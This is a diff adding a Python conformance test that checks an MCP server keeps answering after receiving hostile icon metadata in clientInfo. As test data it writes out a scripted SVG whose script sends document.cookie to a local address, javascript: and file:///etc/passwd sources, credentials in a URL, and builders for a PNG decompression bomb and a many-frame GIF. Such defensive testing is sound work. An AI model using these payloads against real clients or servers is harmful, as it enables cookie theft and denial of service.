@@ -1,0 +1,121 @@
+"""Icons, server side: a server as a consumer of the icons of its client's ``clientInfo``.
+
+The icon rows bind whoever consumes icons. A server meets icons only in the ``clientInfo`` of its
+client (the ``initialize`` request; at 2026-07-28 the ``_meta`` clientInfo every request carries).
+What it does with them inside (store, render, fetch) shows on no wire (docs/limits/063-*.md); what
+does show is whether it goes on serving once they have arrived. Each test offers icons built to hurt
+a careless consumer, then asks for something every server answers: a server that chokes on them
+(no answer, a crash, a stall past the harness's bound) fails; refusing the request that carried them
+is a defence, and passes.
+"""
+
+from __future__ import annotations
+
+import base64
+import struct
+import zlib
+from functools import cache
+from typing import Any
+
+from conformance.harness.frames import BOTH_TRANSPORTS, CLIENT_INFO, initialize_params
+from conformance.harness.peer import Peer
+from conformance.matrix.covers import for_req
+
+CLIENT_INFO_META = "io.modelcontextprotocol/clientInfo"
+SCRIPTED_SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="alert(document.cookie)">'
+    b'<script>fetch("http://127.0.0.1:9/?stolen="+document.cookie)</script>'
+    b'<foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
+)
+
+
+def data_uri(mime: str, payload: bytes) -> str:
+    return f"data:{mime};base64,{base64.b64encode(payload).decode('ascii')}"
+
+
+#: Metadata a careless consumer would act on: unsafe schemes, credentials in the URL, a type that
+#: lies about the bytes, bytes that are no base64, scripted SVG, nonsense sizes.
+HOSTILE_ICONS: list[dict[str, Any]] = [
+    {"src": "javascript:alert(document.cookie)", "mimeType": "image/png"},
+    {"src": "file:///etc/passwd", "mimeType": "image/png", "sizes": ["48x48"]},
+    {"src": "ws://127.0.0.1:9/icon", "mimeType": "image/webp"},
+    {"src": "https://user:password@127.0.0.1:9/icon.png", "sizes": ["any"], "theme": "dark"},
+    {"src": "http://127.0.0.1:9/icon.png?" + "a" * 4096, "mimeType": "text/html", "theme": "light"},
+    {"src": data_uri("image/png", SCRIPTED_SVG), "mimeType": "image/png", "sizes": ["1x1"]},
+    {"src": data_uri("image/svg+xml", SCRIPTED_SVG), "mimeType": "image/svg+xml", "sizes": ["any"]},
+    {"src": "data:image/png;base64,!!!!not-base64!!!!", "mimeType": "image/png"},
+    {"src": "data:", "mimeType": "", "sizes": ["", "-1x-1", "0x0", "NaNxNaN", "48x48x48"]},
+]
+
+
+def _png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+
+
+@cache
+def png_bomb(side: int = 20_000) -> bytes:
+    """A valid grey 1-bit PNG of ``side`` x ``side`` pixels (400 million at the default) whose image data,
+    all zeros, compresses to a few tens of kilobytes: a decoder that allocates the pixels pays gigabytes."""
+    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte, then the packed row
+    packer = zlib.compressobj(9)
+    idat = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
+    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
+
+
+@cache
+def gif_of_many_frames(frames: int = 3_000) -> bytes:
+    """A 1x1 animated GIF of ``frames`` frames, each shown for 0 ms, looping forever."""
+    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
+    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
+    control = b"\x21\xf9\x04\x00\x00\x00\x00\x00"  # no delay
+    frame = control + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
+    return head + loop + frame * frames + b"\x3b"
+
+
+def exhausting_icons() -> list[dict[str, Any]]:
+    """Icons crafted to exhaust a consumer: a decompression bomb, thousands of frames, sizes past any screen,
+    and a long list of them."""
+    bomb = data_uri("image/png", png_bomb())
+    return [
+        {"src": bomb, "mimeType": "image/png", "sizes": ["20000x20000"]},
+        {"src": data_uri("image/gif", gif_of_many_frames()), "mimeType": "image/gif", "sizes": ["1x1"]},
+        {"src": data_uri("image/png", png_bomb(1_000)), "sizes": ["4294967295x4294967295"]},
+        *({"src": data_uri("image/svg+xml", SCRIPTED_SVG), "sizes": ["any"]} for _ in range(500)),
+    ]
+
+
+def offer_client_icons(peer: Peer, icons: list[dict[str, Any]]) -> dict:
+    """The server's answer to the first request whose ``clientInfo`` carries ``icons``: ``initialize`` (the
+    session then goes on as usual when it succeeds), or at 2026-07-28 ``server/discover``."""
+    client_info = {**CLIENT_INFO, "icons": icons}
+    if peer.stateless:
+        return peer.rpc("server/discover", {"_meta": {CLIENT_INFO_META: client_info}}, check=False)
+    response = peer.request("initialize", {**initialize_params(peer.revision), "clientInfo": client_info}, check=False)
+    if "result" in response:
+        peer.initialized, peer.client_capabilities = response["result"], {}
+        if hasattr(peer, "negotiated_version"):  # Streamable HTTP: the version header of later requests
+            peer.negotiated_version = response["result"].get("protocolVersion")
+        peer.notify("notifications/initialized")
+    return response
+
+
+def assert_still_serving(peer: Peer, icons: list[dict[str, Any]], what: str) -> None:
+    """The request carrying ``icons`` is answered (a result, or an error: refusing is a defence), and the
+    server then answers the request every server answers."""
+    answer = offer_client_icons(peer, icons)
+    assert "result" in answer or "error" in answer, f"the request whose clientInfo carried {what} got {answer}"
+    if "error" in answer:
+        return  # refused: the icons were not taken in
+    probe = peer.rpc(peer.probe_method, check=False)
+    assert "result" in probe, f"after a clientInfo carrying {what}, {peer.probe_method} was answered {probe}"
+
+
+@for_req("icons-untrusted-input", "server", transports=BOTH_TRANSPORTS)
+def test_hostile_client_icon_metadata_leaves_the_server_serving(revision: str, transport: str, peer: Peer) -> None:
+    assert_still_serving(peer, HOSTILE_ICONS, "icons with unsafe schemes, lying types and scripted SVG")
+
+
+@for_req("icons-resource-exhaustion", "server", transports=BOTH_TRANSPORTS)
+def test_client_icons_built_to_exhaust_leave_the_server_serving(revision: str, transport: str, peer: Peer) -> None:
+    assert_still_serving(peer, exhausting_icons(), "a PNG decompression bomb, a 3000-frame GIF and 500 more icons")
